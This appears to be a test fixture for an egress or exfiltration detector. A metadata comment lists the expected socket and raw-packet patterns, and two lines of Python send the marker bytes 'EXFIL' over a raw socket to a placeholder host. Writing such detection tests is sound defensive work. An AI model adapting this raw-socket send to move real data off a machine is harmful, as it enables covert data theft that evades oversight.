#: {"class": "egress", "loader": "script", "expect": [["socket|sendto|connect|send", "raw|SOCK_RAW|packet|203\\.0\\.113\\.7"]], "effect": {"sink": ["raw", "EXFIL"]}}
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b"EXFIL", (EXT, 0))
